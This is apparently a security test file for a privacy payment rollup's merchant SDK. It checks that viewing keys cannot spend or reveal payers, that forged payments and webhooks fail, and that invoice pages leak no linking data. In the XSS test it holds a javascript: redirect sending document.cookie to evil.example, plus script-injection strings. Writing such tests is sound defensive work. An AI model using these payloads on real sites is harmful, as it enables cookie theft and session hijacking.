import { bytesToHex, type Hex, parseEther, zeroAddress } from 'viem'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildTransferWitness, proveTransfer, terminateProver, toTransactionJson } from '../../src/circuits/index.ts'
import { randomFieldElement, toHex32 } from '../../src/crypto/field.ts'
import { deriveKeys } from '../../src/crypto/keys.ts'
import { type Note, noteCommitment, noteNullifier, type Outputs } from '../../src/crypto/note.ts'
import { type DecryptedNote, decryptNotes, encryptNotes } from '../../src/crypto/noteEncryption.ts'
import { initCrypto } from '../../src/crypto/poseidon.ts'
import { exportViewingKey, importViewingKey, type ViewingKey } from '../../src/crypto/viewingKeys.ts'
import { createMerchant, createMerchantApp, type Merchant, signWebhook, verifyWebhookSignature } from '../../src/sdk/merchant/index.ts'
import { Wallet } from '../../src/sdk/wallet/Wallet.ts'
import { NodeWallet } from '../../src/sdk/wallet/nodeWallet.ts'
import { deposit } from '../../src/settlement/deposit.ts'
import { syncFromL1 } from '../../src/settlement/syncFromL1.ts'
import { startTestNode, type TestNode } from '../helpers/node.ts'
import { Actor, type Devnet, startDevnet } from '../helpers/rollup.ts'

// Attacks by a merchant, which holds only the incoming viewing key of the account it is paid
// to, and attacks on a merchant by its payers. A merchant must learn that it was paid and no
// more: it cannot spend, and it cannot tell who paid; a payer cannot make it count money that
// is not there, nor replay what the merchant's webhook receiver trusts. And someone who saw an
// invoice's QR code (its id is in the memo) must not learn from the merchant's public pages
// which transaction on the chain paid it.

let devnet: Devnet
let node: TestNode
let shop: Merchant
const shopKeys = () => deriveKeys(new Uint8Array(32).fill(51))
let payer: Actor

beforeAll(async () => {
  await initCrypto()
  payer = new Actor(52)
  devnet = await startDevnet()
  node = await startTestNode(devnet, { batchSize: 1 })
  shop = await createMerchant({
    viewingKey: exportViewingKey(shopKeys(), 'incoming', 'testnet'),
    sequencerUrl: node.url,
    publicClient: devnet.publicClient,
    rollupAddress: devnet.rollup,
    fromBlock: devnet.deployBlock,
  })
})

afterAll(async () => {
  await shop?.close()
  await node?.stop()
  await devnet?.stop()
  await terminateProver()
})

/** The three ciphertexts of `encryptNotes` (payment, change, fee note) as ext data holds them. */
const hexes = (ciphertexts: Uint8Array[]) => {
  expect(ciphertexts).toHaveLength(3)
  return ciphertexts.map((c) => bytesToHex(c)) as Outputs<Hex>
}

/** Pays `note` (to the shop) as output 0 of a deposit, with `ciphertext0` as the shop will read it. */
async function payDeposit(note: Note, ciphertexts: Outputs<Hex>, epk: Hex) {
  const extData = { recipient: zeroAddress, extAmount: note.amount, fee: 0n, epk, ciphertexts }
  const change = payer.note(0n, 0n)
  const tx = await payer.proveWithExtData(node.sequencer.tree, { asset: 0n, extData, outputs: [note, change, payer.note(0n, 0n)] })
  await deposit(devnet.accounts[1]!, { rollup: devnet.rollup, asset: zeroAddress, amount: note.amount, extDataHash: tx.extDataHash, commitments: tx.commitments })
  const { body } = await node.post(toTransactionJson(tx))
  await node.waitFor(body.id!, ['settled', 'final'])
  return tx
}

describe('a merchant as attacker', () => {
  let paid: Note
  let leafIndex: number

  it('default: the shop sees an honest payment, amount and memo, from L1', async () => {
    const invoice = await shop.createInvoice({ amount: 700n, expiresIn: 600 })
    paid = { asset: 0n, amount: 700n, ownerPk: shopKeys().ownerPk, blinding: randomFieldElement() }
    const { epk, ciphertexts } = encryptNotes([{ note: paid, memo: invoice.id }, { note: payer.note(0n, 0n) }, { note: payer.note(0n, 0n) }], [shopKeys().vpk, payer.keys.vpk, payer.keys.vpk])
    const tx = await payDeposit(paid, hexes(ciphertexts), bytesToHex(epk))
    await shop.sync()
    expect(shop.getInvoice(invoice.id)).toMatchObject({ state: 'settled', received: 700n })
    leafIndex = (await node.store.listNotes(0, 1000)).find((n) => n.commitment === tx.commitments[0])!.leafIndex
  })

  it("the merchant spends a customer's payment with its incoming viewing key: it has no spending key, and the circuit refuses any it makes up", async () => {
    const ivk = importViewingKey(exportViewingKey(shopKeys(), 'incoming', 'testnet'))
    // What the merchant holds: the decryption key and the owner's public key, nothing to spend with.
    expect(Object.keys(ivk).sort()).toEqual(['kind', 'network', 'ownerPk', 'vpk', 'vsk'])
    const tree = node.sequencer.tree
    const guessed = { sk: randomFieldElement(), nk: randomFieldElement() }
    const thief = new Actor(53)
    const input = { note: paid, leafIndex, path: tree.path(leafIndex) }
    const dummy = { note: { asset: 0n, amount: 0n, ownerPk: paid.ownerPk, blinding: randomFieldElement() }, leafIndex: 0 }
    const outputs = [thief.note(0n, 700n), thief.note(0n, 0n), thief.note(0n, 0n)] as Outputs<Note>
    const args = { root: tree.root, inputs: [input, dummy] as const, outputs, publicAmount: 0n, publicAsset: 0n, extDataHash: 1n }
    // The witness builder names the problem...
    expect(() => buildTransferWitness({ keys: guessed, ...args })).toThrow(/does not own this note/)
    // ...and the circuit itself refuses a witness forced past it: ownerPk = H(H(sk), nk) fails.
    const honestShape = buildTransferWitness({ keys: shopKeys(), ...args })
    const forced = { ...honestShape, input: { ...honestShape.input, sk: guessed.sk } }
    await expect(proveTransfer(forced)).rejects.toMatchObject({ code: 'PROOF_GENERATION_FAILED' })
  })

  it('the merchant tries to learn who paid: the note it decrypts holds no sender, and the payer’s change is not readable with its key', async () => {
    const invoices = shop.listInvoices()
    const payment = invoices.flatMap((i) => i.payments)[0]!
    // Only what a receipt needs: no sender address, key or input note.
    const seen = JSON.stringify(invoices, (_, v: unknown) => (typeof v === 'bigint' ? v.toString(16) : v instanceof Uint8Array ? bytesToHex(v) : v))
    expect(payment.amount).toBe(700n)
    for (const secret of [payer.keys.ownerPk.toString(16), bytesToHex(payer.keys.vpk).slice(2), payer.keys.nk.toString(16)]) expect(seen).not.toContain(secret)
    const mine = await node.get<{ notes: { leafIndex: number; epk: string; ciphertext: string; commitment: string }[] }>('/v1/notes?from=0&limit=1000')
    const readable = mine.notes.filter((n) => decryptNotes({ vsk: shopKeys().vsk, ownerPk: shopKeys().ownerPk, epk: Buffer.from(n.epk.slice(2), 'hex'), ciphertexts: [Buffer.from(n.ciphertext.slice(2), 'hex')], commitments: [BigInt(n.commitment)] })[0])
    expect(readable.map((n) => n.leafIndex)).toEqual([leafIndex])
  })
})

describe('a payer against the merchant', () => {
  it('a payer whose ciphertext claims 1,000 for a note of 1 is not counted: the shop checks every note against its commitment', async () => {
    const invoice = await shop.createInvoice({ amount: 1000n, expiresIn: 600 })
    const real: Note = { asset: 0n, amount: 1n, ownerPk: shopKeys().ownerPk, blinding: randomFieldElement() }
    const claimed: Note = { ...real, amount: 1000n }
    const { epk, ciphertexts } = encryptNotes([{ note: claimed, memo: invoice.id }, { note: payer.note(0n, 0n) }, { note: payer.note(0n, 0n) }], [shopKeys().vpk, payer.keys.vpk, payer.keys.vpk])
    expect(noteCommitment(claimed)).not.toBe(noteCommitment(real))
    await payDeposit(real, hexes(ciphertexts), bytesToHex(epk))
    await shop.sync()
    expect(shop.getInvoice(invoice.id)).toMatchObject({ state: 'open', received: 0n })
  })

  it('a payer replays a delivery the shop once trusted, or signs its own: the webhook receiver refuses both', () => {
    const secret = 'whsec_attack_0123456789abcdef'
    const body = JSON.stringify({ type: 'invoice.settled', invoice: { id: 'inv_aaaaaaaaaaaa' } })
    const then = 1_700_000_000
    const header = signWebhook({ body, secret, timestamp: then })
    expect(verifyWebhookSignature({ body, header, secret, now: then })).toMatchObject({ ok: true })
    expect(verifyWebhookSignature({ body, header, secret, now: then + 3600 })).toMatchObject({ ok: false, code: 'WEBHOOK_STALE' })
    const forged = signWebhook({ body, secret: 'whsec_guessed_0123456789abcdef', timestamp: then })
    expect(verifyWebhookSignature({ body, header: forged, secret, now: then })).toMatchObject({ ok: false, code: 'WEBHOOK_BAD_SIGNATURE' })
    expect(verifyWebhookSignature({ body: body.replace('settled', 'paid'), header, secret, now: then })).toMatchObject({ ok: false, code: 'WEBHOOK_BAD_SIGNATURE' })
  })
})

describe('someone who saw the QR code', () => {
  const apiKey = 'mk_attack_test_0123456789abcdef'

  it("someone who saw the QR tries to learn which transaction paid: the shop's public invoice, its event stream and the checkout page show the state and amounts, never a commitment, nullifier, leaf index, transaction id or L1 transaction; the shop's key shows them", async () => {
    const app = createMerchantApp(shop, { apiKey })
    // The shop's backend creates the invoice with its key; the QR (the URI) goes up at the till.
    const created = await app.request('/invoices', { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${apiKey}` }, body: JSON.stringify({ amount: '700', expiresIn: 600 }) })
    expect(created.status).toBe(201)
    const invoice = (await created.json()) as { id: string; memo: string; uri: string }
    expect(invoice.uri).toContain('memo=') // the invoice id travels in it

    // The onlooker follows the invoice's public stream from before the payment, as the checkout page does.
    const stream = await app.request(`/invoices/${invoice.id}/events`)
    const reader = stream.body!.getReader()
    let streamed = ''
    const following = (async () => {
      while (!streamed.includes('event: invoice.settled')) {
        const { value, done } = await reader.read()
        if (done) return
        streamed += new TextDecoder().decode(value)
      }
    })()

    // The customer shields 1,000, then pays 700 privately (no public amount), memo = the invoice's.
    const funding = await payer.transact(node.sequencer.tree, { asset: 0n, extAmount: 1000n })
    await deposit(devnet.accounts[1]!, { rollup: devnet.rollup, asset: zeroAddress, amount: 1000n, extDataHash: funding.tx.extDataHash, commitments: funding.tx.commitments })
    await node.waitFor((await node.post(toTransactionJson(funding.tx))).body.id!, ['settled', 'final'])
    const fundingLeaf = (await node.store.listNotes(0, 1000)).find((n) => n.commitment === funding.tx.commitments[1])!.leafIndex
    const toShop: Note = { asset: 0n, amount: 700n, ownerPk: shopKeys().ownerPk, blinding: randomFieldElement() }
    const change = payer.note(0n, 300n)
    const padding = payer.note(0n, 0n) // the fee output: this node charges nothing
    const { epk, ciphertexts } = encryptNotes([{ note: toShop, memo: invoice.memo }, { note: change }, { note: padding }], [shopKeys().vpk, payer.keys.vpk, payer.keys.vpk])
    const extData = { recipient: zeroAddress, extAmount: 0n, fee: 0n, epk: bytesToHex(epk), ciphertexts: hexes(ciphertexts) }
    const tx = await payer.proveWithExtData(node.sequencer.tree, { asset: 0n, extData, inputs: [{ note: funding.change, leafIndex: fundingLeaf }], outputs: [toShop, change, padding] })
    const { body } = await node.post(toTransactionJson(tx))
    await shop.sync() // from the node's mempool: paid, with the sequencer's transaction id
    expect(shop.getInvoice(invoice.id).state).toBe('paid')
    await node.waitFor(body.id!, ['settled', 'final'])
    await shop.sync()
    await following
    await reader.cancel()

    // Everything that names the paying transaction on the chain or at the node.
    const { batchNumber } = await node.get<{ batchNumber: number }>(`/v1/transactions/${body.id}`)
    const { l1TxHash } = await node.get<{ l1TxHash: string }>(`/v1/batches/${batchNumber}`)
    const leafIndex = (await node.store.listNotes(0, 1000)).find((n) => n.commitment === tx.commitments[0])!.leafIndex
    const linkage = [...tx.commitments, ...tx.nullifiers].flatMap((v) => [toHex32(v), toHex32(v).slice(2), v.toString()]).concat(body.id!, l1TxHash, l1TxHash.slice(2))

    const publicInvoice = await (await app.request(`/invoices/${invoice.id}`)).text()
    const checkout = await (await app.request(`/checkout/${invoice.id}`)).text()
    expect(JSON.parse(publicInvoice)).toMatchObject({ state: 'settled', amount: '700', received: '700' })
    expect(streamed).toMatch(/event: invoice\.paid[\s\S]*event: invoice\.settled/)
    for (const [name, page] of Object.entries({ publicInvoice, streamed, checkout })) {
      for (const value of linkage) expect(page, `${name} names ${value}`).not.toContain(value)
      for (const field of ['payments', 'commitment', 'leafIndex', 'txId', 'l1TxHash', 'blockNumber']) expect(page, name).not.toContain(`"${field}"`)
    }
    // A guessed key is refused, not answered with the public view.
    expect((await app.request(`/invoices/${invoice.id}`, { headers: { authorization: `Bearer ${apiKey.slice(0, -1)}x` } })).status).toBe(401)

    // The shop itself, with its key, reads the whole record: that is where the link belongs.
    const whole = (await (await app.request(`/invoices/${invoice.id}`, { headers: { authorization: `Bearer ${apiKey}` } })).json()) as { payments: Record<string, unknown>[] }
    expect(whole.payments).toEqual([expect.objectContaining({ commitment: toHex32(tx.commitments[0]), txId: body.id, leafIndex, l1TxHash, status: 'settled' })])
  })
})

describe("someone on the internet against the shop's API", () => {
  // A fresh shop without a chain: these attacks need only its HTTP app and its store.
  const fresh = (options: { maxOpenInvoices?: number } = {}) =>
    createMerchant({ viewingKey: exportViewingKey(shopKeys(), 'incoming', 'testnet'), sequencerUrl: 'http://127.0.0.1:9', publicClient: devnet.publicClient, rollupAddress: devnet.rollup, fromBlock: devnet.deployBlock, ...options })
  const create = (app: ReturnType<typeof createMerchantApp>, body: unknown, key?: string) =>
    app.request('/invoices', { method: 'POST', headers: { 'content-type': 'application/json', ...(key ? { authorization: `Bearer ${key}` } : {}) }, body: JSON.stringify(body) })

  it('an attacker floods the shop with invoices: without a key every attempt is 401 and nothing is stored; with a leaked key, the open-invoice limit and the lifetime cap hold', async () => {
    const m = await fresh({ maxOpenInvoices: 5 })
    try {
      const app = createMerchantApp(m)
      const { id, key } = m.createApiKey()
      for (const guess of [undefined, 'zkpmk_guess', `${key.slice(0, -1)}${key.endsWith('A') ? 'B' : 'A'}`]) {
        const res = await create(app, { amount: '1', expiresIn: 60 }, guess)
        expect([res.status, ((await res.json()) as { code: string }).code]).toEqual([401, 'UNAUTHORIZED'])
        expect((await app.request('/invoices', guess ? { headers: { authorization: `Bearer ${guess}` } } : {})).status).toBe(401)
      }
      expect(m.listInvoices()).toHaveLength(0)
      const statuses: number[] = []
      for (let i = 0; i < 8; i++) statuses.push((await create(app, { amount: '1', expiresIn: 60 }, key)).status)
      expect(statuses).toEqual([201, 201, 201, 201, 201, 429, 429, 429])
      const year = await create(app, { amount: '1', expiresIn: 366 * 24 * 3600 }, key)
      expect([year.status, ((await year.json()) as { message: string }).message]).toEqual([400, expect.stringContaining('`expiresIn`')])
      // The shop revokes the leaked key: it opens nothing any more.
      m.revokeApiKey(id)
      expect((await create(app, { amount: '1', expiresIn: 60 }, key)).status).toBe(401)
    } finally {
      await m.close()
    }
  })

  it("a compromised shop backend plants a javascript: redirect, an oversized metadata or markup in the invoice text: refused, or shown escaped on the payer's checkout page", async () => {
    const m = await fresh()
    try {
      const app = createMerchantApp(m)
      const { key } = m.createApiKey()
      for (const bad of [{ redirectUrl: 'javascript:fetch("//evil.example/"+document.cookie)' }, { redirectUrl: 'JaVaScRiPt:alert(1)' }, { metadata: { pad: 'x'.repeat(5_000) } }]) {
        const res = await create(app, { amount: '1', expiresIn: 60, ...bad }, key)
        expect(res.status, JSON.stringify(bad).slice(0, 60)).toBe(400)
        await expect(m.createInvoice({ amount: 1n, expiresIn: 60, ...bad })).rejects.toMatchObject({ code: 'INVALID_PARAMETER' })
      }
      expect(m.listInvoices()).toHaveLength(0)
      const markup = `"><script>alert(1)</script>`
      const res = await create(app, { amount: '1', expiresIn: 60, label: markup, message: markup, redirectUrl: `https://shop.example/ok?q=${markup}` }, key)
      const { id } = (await res.json()) as { id: string }
      const page = await app.request(`/checkout/${id}`)
      const html = await page.text()
      expect(html).not.toContain('<script>alert(1)')
      expect(html).toContain('&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;')
      // Exactly one script, the page's own, allowed by its nonce only.
      expect(html.match(/<script/g)).toHaveLength(1)
      expect(page.headers.get('content-security-policy')).toMatch(/default-src 'none'; script-src 'nonce-/)
    } finally {
      await m.close()
    }
  })
})

describe('a merchant watching the account it is paid to', () => {
  /** Every output on L1 that `key` opens (zero-value padding included), in chain order. */
  async function seenOnL1(key: ViewingKey) {
    const { batches } = await syncFromL1(devnet.publicClient, { rollup: devnet.rollup, fromBlock: devnet.deployBlock })
    const txs = batches.flatMap((b) => b.transactions)
    const bytes = (hex: string) => Buffer.from(hex.slice(2), 'hex')
    const found = txs.flatMap((t) =>
      decryptNotes({ vsk: key.vsk, ownerPk: key.ownerPk, internalKey: key.internalKey, epk: bytes(t.epk), ciphertexts: t.ciphertexts.map(bytes), commitments: t.commitments })
        .filter((d): d is DecryptedNote => d !== null)
        .map((d) => ({ ...d, leafIndex: t.leafIndex + d.index })),
    )
    return { found, nullifiers: new Set(txs.flatMap((t) => t.nullifiers)) }
  }

  it('the merchant, with the incoming viewing key of an account that deposits, pays someone else, keeps change and withdraws, learns only the payments made to it; the full viewing key sees everything', async () => {
    const wallet = (seedByte: number, account: number) =>
      new NodeWallet({ seed: new Uint8Array(32).fill(seedByte), sequencerUrl: node.url, rollupAddress: devnet.rollup, fromBlock: devnet.deployBlock, l1: devnet.accounts[account]! })
    const owner = wallet(54, 1)
    const customer = wallet(55, 2)
    const stranger = wallet(56, 1)
    const ivk = exportViewingKey(owner.keys, 'incoming', 'testnet')
    const watcher = await createMerchant({ viewingKey: ivk, sequencerUrl: node.url, publicClient: devnet.publicClient, rollupAddress: devnet.rollup, fromBlock: devnet.deployBlock })
    try {
      await (await owner.deposit({ amount: parseEther('1') })).wait('settled')
      await (await customer.deposit({ amount: parseEther('0.5') })).wait('settled')
      const invoice = await watcher.createInvoice({ amount: parseEther('0.3'), expiresIn: 600 })
      await (await customer.transfer({ to: watcher.address, amount: parseEther('0.3'), memo: invoice.memo })).wait('settled')
      await owner.sync()
      // The largest note alone, 1, pays 0.2: 0.8 of change; a withdrawal of 0.4 from it: 0.4, and the 0.3 received.
      await (await owner.transfer({ to: stranger.address, amount: parseEther('0.2'), memo: 'not for the shop' })).wait('settled')
      await (await owner.withdraw({ to: devnet.accounts[1]!.walletClient.account!.address, amount: parseEther('0.4') })).wait('settled')
      expect(owner.balance()).toBe(parseEther('0.7'))

      // The merchant service: one payment, the invoice's, and nothing of the deposit, the change or the withdrawal.
      await watcher.sync()
      expect(watcher.listPayments().map((p) => [p.amount, p.match, p.invoiceId])).toEqual([[parseEther('0.3'), 'counted', invoice.id]])
      expect(watcher.getInvoice(invoice.id).state).toMatch(/settled|final/)

      // The key itself over every output on L1, zero-value padding included: the payment alone.
      const incoming = await seenOnL1(importViewingKey(ivk))
      expect(incoming.found.map((d) => [d.note.amount, d.internal])).toEqual([[parseEther('0.3'), false]])

      // The full viewing key reads the account's notes to itself too, and sees which are spent.
      const full = importViewingKey(exportViewingKey(owner.keys, 'full', 'testnet'))
      const all = await seenOnL1(full)
      const real = all.found.filter((d) => d.note.amount > 0n)
      expect(real.map((d) => [d.note.amount, d.internal])).toEqual([
        [parseEther('1'), true], // the deposit
        [parseEther('0.3'), false], // the payment
        [parseEther('0.8'), true], // change of the payment to the stranger
        [parseEther('0.4'), true], // change of the withdrawal
      ])
      // Zero-value padding (the deposit's and the withdrawal's unused outputs): internal too.
      const padding = all.found.filter((d) => d.note.amount === 0n)
      expect(padding.length).toBeGreaterThanOrEqual(2)
      expect(padding.every((d) => d.internal)).toBe(true)
      const unspent = real.filter((d) => !all.nullifiers.has(noteNullifier(full.nk!, d.commitment, d.leafIndex)))
      expect(unspent.map((d) => d.note.amount)).toEqual([parseEther('0.3'), parseEther('0.4')])

      // The account's own history calls none of its notes to itself a receipt, live or restored.
      expect(owner.history().map((h) => [h.kind, h.amount])).toEqual([
        ['deposit', parseEther('1')],
        ['receive', parseEther('0.3')],
        ['send', parseEther('0.2')],
        ['withdraw', parseEther('0.4')],
      ])
      const restored = wallet(54, 1)
      await restored.sync()
      expect(restored.balance()).toBe(parseEther('0.7'))
      // Restored from L1 alone, a withdrawal reads as a send: the amount is right, the L1 side is not in the notes.
      expect(restored.history().map((h) => [h.kind, h.amount])).toEqual([
        ['deposit', parseEther('1')],
        ['receive', parseEther('0.3')],
        ['send', parseEther('0.2')],
        ['send', parseEther('0.4')],
      ])
    } finally {
      await watcher.close()
    }
  })
})
